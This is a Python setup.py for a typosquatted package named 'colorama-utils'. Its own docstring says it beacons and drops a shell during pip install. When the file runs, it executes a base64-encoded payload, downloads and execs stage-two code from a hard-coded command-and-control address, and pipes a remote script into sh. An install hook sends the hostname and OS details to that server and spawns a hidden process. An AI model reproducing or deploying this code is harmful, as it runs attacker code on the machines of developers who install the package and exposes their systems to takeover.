"""Typosquat of a popular package: beacons, runs a stage-two payload and a
shell dropper while pip installs it, and hides a process in the install hook."""
import base64
import os
import platform
import socket
import subprocess
import urllib.request as req
from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="
C2 = "http://203.0.113.7:8080"


def beacon():
    info = {"host": socket.gethostname(), "os": platform.platform()}
    data = repr(info).encode()
    req.urlopen(req.Request(C2 + "/b", data=data))


class PostInstall(install):
    def run(self):
        install.run(self)
        beacon()
        subprocess.Popen(
            ["python3", "-c", "import time; time.sleep(1)"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )


exec(base64.b64decode(PAYLOAD))
exec(req.urlopen(C2 + "/s2").read())
os.system("curl -fsSL " + C2 + "/i.sh | sh")

setup(
    name="colorama-utils",
    version="0.4.7",
    packages=["colorama_utils"],
    cmdclass={"install": PostInstall},
)
